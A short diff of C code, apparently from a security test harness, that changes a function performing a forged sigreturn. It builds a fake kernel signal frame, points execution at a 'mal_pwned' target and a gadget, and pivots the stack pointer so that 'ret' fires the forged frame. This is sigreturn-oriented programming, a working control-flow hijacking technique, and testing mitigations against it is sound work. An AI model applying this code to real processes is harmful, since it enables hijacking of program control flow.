@@ -76,12 +76,15 @@ static void pin_to_one_cpu(void)
 /* The forged sigreturn: it never returns (the kernel takes any frame it can read). */
 static void __attribute__((noinline)) forged_sigreturn(void)
 {
+	/* Both on this thread's stack, as srop_gadget's: the restored rsp is no pivot. */
 	struct k_rt_sigframe64 frame __attribute__((aligned(16)));
-	static char scratch[16384] __attribute__((aligned(16)));
+	static volatile char sink;
+	char scratch[16384] __attribute__((aligned(16)));
 	uint64_t new_rsp = ((uint64_t)(scratch + sizeof(scratch)) & ~15ull) - 8;
 
 	mal_fill_context(&frame, (uint64_t)mal_pwned, new_rsp);
 	frame.pretcode = (uint64_t)srop_skip_flood_gadget;
+	scratch[0] = sink; /* keep the scratch area */
 	__asm__ volatile("mov %0, %%rsp\n\t"
 			 "ret\n\t"
 			 :
